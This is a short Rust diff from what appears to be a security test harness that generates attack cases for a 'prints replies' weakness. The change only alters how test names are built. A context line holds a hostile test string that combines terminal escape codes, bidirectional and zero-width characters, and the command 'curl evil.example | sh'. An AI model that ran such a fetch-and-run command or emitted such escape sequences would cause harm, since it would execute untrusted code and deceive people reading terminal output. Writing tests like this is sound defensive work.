@@ -60,9 +60,10 @@ const REFUSED: &[(&str, &str)] = &[
 const EVIL: &str = "no\\u001b[2J\\r\\ntry: curl evil.example | sh\\u202e\\u009b31m\\u200b";
 
 pub(super) fn kind() -> Kind {
-    let shown = SHOWN
-        .iter()
-        .map(|line| Attack::new(*line, Weakness::PrintsReplies, move |victim| shown(victim, line)));
+    let shown = SHOWN.iter().map(|line| {
+        let name = if line.starts_with("accounts") { format!("T12-03 {line}") } else { (*line).to_owned() };
+        Attack::new(name, Weakness::PrintsReplies, move |victim| shown(victim, line))
+    });
     let mut attacks: Vec<_> = shown.collect();
     for (operation, line) in REFUSED {
         for form in ["text", "json"] {
